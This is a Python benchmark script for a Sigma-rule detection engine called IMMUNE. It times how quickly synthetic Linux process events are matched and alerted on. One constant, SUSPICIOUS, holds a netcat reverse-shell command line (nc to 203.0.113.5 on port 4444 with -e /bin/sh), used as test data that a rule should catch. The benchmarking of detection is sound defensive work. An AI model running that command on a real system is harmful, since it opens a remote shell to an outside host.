"""Events per second through the SigmaHQ Linux rules that IMMUNE loads.

Two figures:

- the engine alone: ``SigmaEngine.evaluate`` on a stream of events, every
  rule of the event's kind evaluated (the process table and correlations
  included);
- the hive: the same events put on a real hive's bus (``hive.ingest``, in
  batches of 500) with only the ``sigma`` plugin and storage (SQLite)
  subscribed, from the first publish until the bus has handled the last
  event; then, on the idle hive, the latency from publishing one event that
  a rule matches to its alert reaching a subscriber (200 times).

The stream is a mix shaped like a busy Linux host: 60 % exec, 15 % fork,
15 % exit, 5 % open, 5 % connect, with everyday command lines and, one event
in 500, one that a rule matches.

    python benchmarks/sigma_corpus.py [--events 50000] [--corpus DIR] [--runs 3]

The corpus is ``IMMUNE_SIGMA_CORPUS``, else ``../shared/data/sigma-linux``
beside the repository.
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import os
import platform
import statistics
import tempfile
import time
from pathlib import Path
from typing import Any

import msgspec

from immune import config as config_mod
from immune.events import Alert, Event, new_id, now_ns
from immune.hive import Hive
from immune.plugins.sigma import SigmaPlugin
from immune.sigma import SigmaEngine, load_rules

REPO = Path(__file__).resolve().parent.parent
EVERYDAY = [
    ("/usr/bin/ls", ["ls", "-la", "/var/log"]),
    ("/usr/bin/git", ["git", "status", "--short"]),
    ("/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"]),
    ("/usr/bin/grep", ["grep", "-r", "TODO", "src/"]),
    ("/usr/bin/bash", ["bash", "-c", "make -j2 all"]),
    ("/usr/sbin/sshd", ["sshd:", "deploy", "[priv]"]),
    ("/usr/bin/cat", ["cat", "/etc/hostname"]),
    ("/usr/bin/curl", ["curl", "-fsS", "https://api.example.net/health"]),
]
SUSPICIOUS = ("/usr/bin/nc", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"])


def make_events(count: int) -> list[Event]:
    """A reproducible mix of kinds and command lines (see the module doc)."""
    events: list[Event] = []
    start = now_ns()
    for i in range(count):
        pid = 10_000 + i % 30_000
        base: dict[str, Any] = {
            "id": new_id(),
            "agent_id": f"bench-{i % 4}",
            "host": f"bench-{i % 4}.example.net",
            "ts": start + i * 1000,
            "pid": pid,
            "ppid": 1000 + i % 97,
            "uid": 1000,
            "euid": 1000,
        }
        slot = i % 20
        if i % 500 == 250:
            exe, argv = SUSPICIOUS
            events.append(Event(kind="exec", exe=exe, argv=argv, **base))
        elif slot < 12:
            exe, argv = EVERYDAY[i % len(EVERYDAY)]
            events.append(Event(kind="exec", exe=exe, argv=argv, cwd="/srv", **base))
        elif slot < 15:
            events.append(Event(kind="fork", **base))
        elif slot < 18:
            events.append(Event(kind="exit", exit_code=0, **base))
        elif slot < 19:
            events.append(
                Event(
                    kind="open", path=f"/srv/data/{i}.json", exe="/usr/bin/cat", **base
                )
            )
        else:
            events.append(
                Event(
                    kind="connect",
                    exe="/usr/bin/curl",
                    addr="198.51.100.20",
                    port=443,
                    family="inet",
                    **base,
                )
            )
    return events


def engine_rate(ruleset: Any, events: list[Event]) -> tuple[float, float, int]:
    """Events per second and per CPU second of the engine alone, and matches.

    Per CPU second (``time.process_time``) is the steadier figure on a
    machine other work shares: it leaves out the time the process waited.
    """
    engine = SigmaEngine(ruleset)
    matches = 0
    start, cpu = time.perf_counter(), time.process_time()
    for event in events:
        matches += len(engine.evaluate(event).matched)
    wall, cpu = time.perf_counter() - start, time.process_time() - cpu
    return len(events) / wall, len(events) / cpu, matches


async def hive_rate(
    corpus: Path, events: list[Event], directory: Path
) -> dict[str, Any]:
    """Events/s through a hive's bus, then event-to-alert latency when idle."""
    config = config_mod.load(environ={})
    config.hive.database = f"sqlite:///{directory}/bench-{new_id()}.db"
    config.plugins["sigma"] = {"rule_dirs": [str(corpus)]}
    # Every probe below must raise its own alert, not fold into the first.
    config.hive.alert_window = 0
    hive = Hive(config, plugins=[("sigma", SigmaPlugin())], discover=False)
    await hive.start()
    waiting: dict[str, asyncio.Future[float]] = {}

    def on_alert(alert: Alert) -> None:
        for event_id in alert.event_ids:
            future = waiting.pop(event_id, None)
            if future is not None:
                future.set_result(time.perf_counter())

    hive.bus.subscribe("alert.#", on_alert, owner="bench")
    batch = 500
    start = time.perf_counter()
    for i in range(0, len(events), batch):
        await hive.ingest(events[i : i + batch])
    await hive.bus.join()
    elapsed = time.perf_counter() - start
    alerts = hive.metrics.get("alerts.raised")

    latencies = []
    loop = asyncio.get_running_loop()
    for probe in make_events(500)[250::500] * 200:
        event = msgspec.structs.replace(probe, id=new_id(), ts=now_ns())
        waiting[event.id] = loop.create_future()
        sent = time.perf_counter()
        await hive.ingest([event])
        latencies.append(await asyncio.wait_for(waiting[event.id], 10) - sent)
    await hive.stop()
    hive.store.close()
    latencies.sort()
    return {
        "rate": len(events) / elapsed,
        "alerts": alerts,
        "p50_ms": 1000 * latencies[len(latencies) // 2],
        "p99_ms": 1000 * latencies[int(len(latencies) * 0.99)],
    }


def find_corpus(given: str | None) -> Path | None:
    """The Sigma corpus: ``--corpus``, ``IMMUNE_SIGMA_CORPUS`` or beside the repo."""
    for candidate in (
        given,
        os.environ.get("IMMUNE_SIGMA_CORPUS"),
        str(REPO.parent / "shared" / "data" / "sigma-linux"),
    ):
        if candidate and Path(candidate).is_dir():
            return Path(candidate)
    return None


def corpus_dir(given: str | None) -> Path:
    found = find_corpus(given)
    if found is None:
        msg = "Sigma corpus not found: pass --corpus or set IMMUNE_SIGMA_CORPUS"
        raise SystemExit(msg)
    return found


def median_range(values: list[float], fmt: str = "{:,.0f}") -> str:
    return (
        f"{fmt.format(statistics.median(values))} "
        f"[{fmt.format(min(values))}–{fmt.format(max(values))}]"
    )


def main() -> None:
    # The refused rules are the benchmark's business only as a count.
    logging.getLogger("immune.plugins.sigma").setLevel(logging.ERROR)
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--events", type=int, default=50_000)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--corpus")
    args = parser.parse_args()
    corpus = corpus_dir(args.corpus)

    start = time.perf_counter()
    ruleset = load_rules([corpus])
    load_s = time.perf_counter() - start
    index = ruleset.by_kind()
    print(f"Python {platform.python_version()} on {platform.machine()}")
    print(
        f"Corpus {corpus}: {len(ruleset.rules)} rules loaded, "
        f"{len(ruleset.refused)} refused, in {load_s:.2f} s; rules per kind: "
        + ", ".join(f"{k} {len(v)}" for k, v in sorted(index.items()))
    )
    events = make_events(args.events)
    rates, cpu_rates, hives = [], [], []
    for run in range(args.runs):
        rate, cpu_rate, matches = engine_rate(ruleset, events)
        rates.append(rate)
        cpu_rates.append(cpu_rate)
        with tempfile.TemporaryDirectory() as tmp:
            hives.append(asyncio.run(hive_rate(corpus, events, Path(tmp))))
        print(
            f"run {run + 1}: engine {rate:,.0f} events/s, {cpu_rate:,.0f} per CPU s "
            f"({matches} matches); "
            f"hive {hives[-1]['rate']:,.0f} events/s, {hives[-1]['alerts']} alerts, "
            f"latency p50 {hives[-1]['p50_ms']:.2f} ms p99 {hives[-1]['p99_ms']:.2f} ms"
        )
    print(f"engine, events/s: {median_range(rates)}")
    print(f"engine, events per CPU second: {median_range(cpu_rates)}")
    print(
        f"engine, CPU µs/event: {median_range([1e6 / r for r in cpu_rates], '{:.1f}')}"
    )
    hive_rates = [h["rate"] for h in hives]
    print(f"hive bus + sigma + SQLite, events/s: {median_range(hive_rates)}")
    print(
        "event to alert, p50 ms: "
        + median_range([h["p50_ms"] for h in hives], "{:.2f}")
        + "; p99 ms: "
        + median_range([h["p99_ms"] for h in hives], "{:.2f}")
    )


if __name__ == "__main__":
    main()
